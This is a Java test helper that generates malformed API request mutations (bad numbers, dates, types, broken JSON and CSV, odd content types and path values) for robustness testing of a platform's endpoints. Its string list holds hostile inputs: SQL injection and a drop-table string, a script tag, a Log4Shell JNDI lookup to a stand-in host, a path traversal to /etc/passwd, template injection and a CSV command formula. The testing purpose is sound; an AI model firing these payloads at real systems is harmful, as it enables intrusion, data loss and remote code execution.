package cn.beijing.platform.test.api;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.UUID;

import org.springframework.http.MediaType;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * Mutations of a valid request: wrong types, nulls, missing and unknown fields, huge and tiny numbers, exponents,
 * NaN, control characters, very long strings, Unicode, injection strings, out-of-range dates, broken JSON and CSV,
 * wrong content types, bad path variables and query parameters. Deterministic for a given {@link Random}.
 */
final class Mutations {

    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    /** A string node holding this prefix is written as the raw JSON text that follows it. */
    private static final String RAW = "@@raw@@";

    static final List<String> NUMBERS = List.of("1e308", "-1e308", "1e2000000", "-1e2000000", "1e-400",
            "1" + "0".repeat(399), "0." + "0".repeat(398) + "1", "NaN", "Infinity", "-Infinity", "-0", "0", "-1",
            "2147483648", "-2147483649", "9223372036854775808", "1.5", "0.000000001", "1e20", "1e12", "999999999999.99",
            "12345678901234567890.123");
    static final List<String> DATES = List.of("-0001-01-01", "0000-01-01", "9999-12-31", "2025-02-30", "2025-13-01",
            "+10000-01-01", "1899-12-31", "2101-01-01", "2025-1-1", "20250101", "2025-01-01T00:00:00Z");
    static final List<String> TYPES = List.of("\"x\"", "1", "true", "{}", "[]", "null", "[1,2]", "{\"a\":{\"b\":[]}}",
            "\"\"", "-5");
    private static final List<String> STRINGS = List.of("\u0000", "a\u0000b", "\u0001", "\u001b[31m", "\u007f",
            "\u0085", "line\nbreak", "tab\there", "\uFFFE", "", " ", "😀🏫", "مرحبا", "e\u0301", "\u200b",
            "\uFEFFbom", "北京市海淀区", "' OR '1'='1", "'; drop table building; --", "<script>alert(1)</script>",
            "${jndi:ldap://x.example/a}", "../../etc/passwd", "%00", "{{7*7}}", "=cmd|'/C calc'!A0", "\\", "\"",
            "x".repeat(5000), "NaN", "null", "true");
    private static final List<String> CONTENT_TYPES = List.of("text/plain", "application/xml",
            "application/x-www-form-urlencoded", "", "application/octet-stream", "text/csv", "application/json");
    private static final List<String> PATH_VALUES = List.of("not-an-id", "%00", "%2e%2e", "..", "-1", "0",
            "99999999999", "2147483648", "%E2%80%AE", "%F0%9F%98%80", "x".repeat(3000), "1e308", "%20", "null");

    private final int longString;

    /** @param longString length of the "very long string" mutation (100 000 in the build, 1 000 000 in bench/) */
    Mutations(int longString) {
        this.longString = longString;
    }

    ApiRequest mutate(ApiEndpoint endpoint, ApiRequest seed, Random random) {
        List<Kind> kinds = new ArrayList<>(List.of(Kind.values()));
        if (endpoint.pathVariables().isEmpty()) {
            kinds.remove(Kind.PATH);
        }
        if (seed.body() == null) {
            kinds.removeAll(List.of(Kind.VALUE, Kind.NUMBER, Kind.DATE, Kind.TYPE, Kind.REMOVE, Kind.NULL,
                    Kind.UNKNOWN_FIELD, Kind.LONG_STRING, Kind.WHOLE_BODY));
        }
        Kind kind = kinds.get(random.nextInt(kinds.size()));
        boolean json = seed.contentType() == null || seed.contentType().isCompatibleWith(MediaType.APPLICATION_JSON);
        return switch (kind) {
            case PATH -> path(endpoint, seed, random);
            case QUERY -> seed.withPath(seed.pathAndQuery() + (seed.pathAndQuery().contains("?") ? "&" : "?")
                    + pick(random, List.of("x=%00", "unknown=1", "page=-1", "size=999999", "date=-0001-01-01",
                    "decisionDate=99999-01-01", "year=1e308", "%00=1", "district=%00", "limit=1e308")), "query");
            case CONTENT_TYPE -> contentType(seed, random);
            case WHOLE_BODY -> wholeBody(seed, random);
            default -> json ? jsonValue(kind, seed, random) : csv(kind, seed, random);
        };
    }

    private enum Kind {
        VALUE, NUMBER, DATE, TYPE, REMOVE, NULL, UNKNOWN_FIELD, LONG_STRING, WHOLE_BODY, CONTENT_TYPE, PATH, QUERY
    }

    private ApiRequest jsonValue(Kind kind, ApiRequest seed, Random random) {
        JsonNode root = JSON.readTree((String) seed.body());
        List<JsonLocations.Location> places = JsonLocations.all(root);
        if (kind == Kind.UNKNOWN_FIELD || places.isEmpty()) {
            List<JsonLocations.Location> objects = new ArrayList<>(List.of(JsonLocations.ROOT));
            places.stream().filter(p -> JsonLocations.get(root, p).isObject()).forEach(objects::add);
            JsonLocations.Location at = pick(random, objects);
            JsonNode target = JsonLocations.get(root, at);
            if (target instanceof ObjectNode object) {
                object.put("unexpected" + random.nextInt(100), pick(random, STRINGS));
                return seed.withBody(seed.contentType(), JSON.writeValueAsString(root), "unknown field in " + at.field());
            }
            return seed.withBody(seed.contentType(), "{\"unexpected\":1}", "object instead of " + target.getNodeType());
        }
        JsonLocations.Location at = pick(random, places);
        String what;
        switch (kind) {
            case VALUE -> {
                String value = pick(random, STRINGS);
                JsonLocations.set(root, at, NODES.stringNode(value));
                what = "text " + describe(value) + " at " + at.field();
            }
            case LONG_STRING -> {
                JsonLocations.set(root, at, NODES.stringNode("x".repeat(longString)));
                what = longString + " characters at " + at.field();
            }
            case NUMBER -> {
                String number = pick(random, NUMBERS);
                JsonLocations.set(root, at, NODES.stringNode(RAW + number));
                what = "number " + abbreviate(number) + " at " + at.field();
            }
            case DATE -> {
                String date = pick(random, DATES);
                JsonLocations.set(root, at, NODES.stringNode(date));
                what = "date " + date + " at " + at.field();
            }
            case TYPE -> {
                String token = pick(random, TYPES);
                JsonLocations.set(root, at, NODES.stringNode(RAW + token));
                what = "value " + token + " at " + at.field();
            }
            case REMOVE -> {
                JsonLocations.remove(root, at);
                what = "without " + at.field();
            }
            default -> {
                JsonLocations.set(root, at, NODES.nullNode());
                what = "null at " + at.field();
            }
        }
        return seed.withBody(seed.contentType(), raw(JSON.writeValueAsString(root)), what);
    }

    /** The JSON text with every raw marker replaced by its raw text. */
    static String raw(String json) {
        StringBuilder out = new StringBuilder();
        int from = 0;
        String marker = "\"" + RAW;
        for (int at = json.indexOf(marker); at >= 0; at = json.indexOf(marker, from)) {
            out.append(json, from, at);
            int end = json.indexOf('"', at + marker.length());
            // the raw text may hold escaped quotes (a JSON token such as "x"): unescape it
            while (json.charAt(end - 1) == '\\') {
                end = json.indexOf('"', end + 1);
            }
            out.append(json.substring(at + marker.length(), end).replace("\\\"", "\""));
            from = end + 1;
        }
        return out.append(json.substring(from)).toString();
    }

    /** A JSON body with one value replaced by raw JSON text (a number such as {@code 1e2000000}, or {@code NaN}). */
    static String withRaw(String json, JsonLocations.Location at, String rawValue) {
        JsonNode root = JSON.readTree(json);
        JsonLocations.set(root, at, NODES.stringNode(RAW + rawValue));
        return raw(JSON.writeValueAsString(root));
    }

    private ApiRequest csv(Kind kind, ApiRequest seed, Random random) {
        String[] lines = ((String) seed.body()).split("\n", -1);
        List<Integer> dataLines = new ArrayList<>();
        for (int i = 0; i < lines.length; i++) {
            if (!lines[i].isBlank() && !lines[i].startsWith("#")) {
                dataLines.add(i);
            }
        }
        int line = dataLines.size() > 1 ? dataLines.get(1 + random.nextInt(dataLines.size() - 1)) : dataLines.get(0);
        String[] cells = lines[line].split(",", -1);
        int cell = random.nextInt(cells.length);
        String what;
        switch (kind) {
            case NUMBER -> {
                cells[cell] = pick(random, NUMBERS);
                what = "number " + abbreviate(cells[cell]) + " in line " + (line + 1) + " cell " + (cell + 1);
            }
            case DATE -> {
                cells[cell] = pick(random, DATES);
                what = "date " + cells[cell] + " in line " + (line + 1) + " cell " + (cell + 1);
            }
            case LONG_STRING -> {
                cells[cell] = "x".repeat(longString);
                what = longString + " characters in line " + (line + 1) + " cell " + (cell + 1);
            }
            case REMOVE -> {
                cells[cell] = "";
                what = "empty cell in line " + (line + 1) + " cell " + (cell + 1);
            }
            case UNKNOWN_FIELD -> {
                lines[line] = lines[line] + ",extra";
                return seed.withBody(seed.contentType(), String.join("\n", lines), "extra cell in line " + (line + 1));
            }
            case TYPE -> {
                String structure = pick(random, List.of("\"unterminated", "a\"b", "\"\"\"", "\"x\"y", ",,,,,,,,,,,,"));
                cells[cell] = structure;
                what = "broken quoting " + structure + " in line " + (line + 1);
            }
            default -> {
                String value = pick(random, STRINGS);
                cells[cell] = random.nextBoolean() ? "\"" + value.replace("\"", "\"\"") + "\"" : value;
                what = "text " + describe(value) + " in line " + (line + 1) + " cell " + (cell + 1);
            }
        }
        lines[line] = String.join(",", cells);
        return seed.withBody(seed.contentType(), String.join("\n", lines), what);
    }

    private ApiRequest wholeBody(ApiRequest seed, Random random) {
        String body = (String) seed.body();
        int choice = random.nextInt(11);
        return switch (choice) {
            case 0 -> seed.withBody(seed.contentType(), "", "empty body");
            case 1 -> seed.withBody(seed.contentType(), "null", "body null");
            case 2 -> seed.withBody(seed.contentType(), body.startsWith("[") ? "{}" : "[]", "array/object swapped");
            case 3 -> seed.withBody(seed.contentType(), body.substring(0, body.length() / 2), "truncated body");
            case 4 -> seed.withBody(seed.contentType(), "not json at all \u0000", "not JSON");
            case 5 -> seed.withBody(seed.contentType(), new byte[] { (byte) 0xC3, (byte) 0x28, (byte) 0xFF, 0x7B },
                    "invalid UTF-8");
            case 6 -> seed.withBody(seed.contentType(), "[".repeat(3000) + "]".repeat(3000), "nested 3000 deep");
            case 7 -> seed.withBody(seed.contentType(), body + body, "body twice");
            case 8 -> seed.withBody(seed.contentType(), "\uFEFF" + body, "byte-order mark");
            case 9 -> seed.withBody(seed.contentType(), body.replace(",", ",,"), "doubled separators");
            default -> seed.withBody(seed.contentType(),
                    new String(body.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1), "mojibake");
        };
    }

    private ApiRequest contentType(ApiRequest seed, Random random) {
        String type = pick(random, CONTENT_TYPES);
        MediaType media = type.isEmpty() ? null : MediaType.parseMediaType(type);
        Object body = seed.body() == null ? "{}" : seed.body();
        return seed.withBody(media, body, "content type " + (type.isEmpty() ? "none" : type));
    }

    private ApiRequest path(ApiEndpoint endpoint, ApiRequest seed, Random random) {
        String variable = pick(random, endpoint.pathVariables());
        int index = endpoint.pathVariables().indexOf(variable);
        String[] template = endpoint.path().split("/");
        String[] actual = seed.pathAndQuery().split("\\?", 2)[0].split("/");
        int seen = -1;
        for (int i = 0; i < template.length && i < actual.length; i++) {
            if (template[i].startsWith("{") && ++seen == index) {
                String value = random.nextInt(4) == 0 ? UUID.randomUUID().toString() : pick(random, PATH_VALUES);
                actual[i] = value;
                String query = seed.pathAndQuery().contains("?") ? "?" + seed.pathAndQuery().split("\\?", 2)[1] : "";
                return seed.withPath(String.join("/", actual) + query, "path " + variable + " = " + abbreviate(value));
            }
        }
        return seed.withPath(seed.pathAndQuery(), "path unchanged");
    }

    private static <T> T pick(Random random, List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private static String abbreviate(String text) {
        return text.length() > 24 ? text.substring(0, 12) + "…(" + text.length() + " chars)" : text;
    }

    private static String describe(String text) {
        StringBuilder out = new StringBuilder();
        for (char c : abbreviate(text).toCharArray()) {
            out.append(c < 0x20 || c == 0x7f || (c >= 0x80 && c < 0xa0) || Character.isSurrogate(c) || c == '\uFFFE'
                    ? String.format("\\u%04X", (int) c) : String.valueOf(c));
        }
        return "\"" + out + "\"";
    }
}
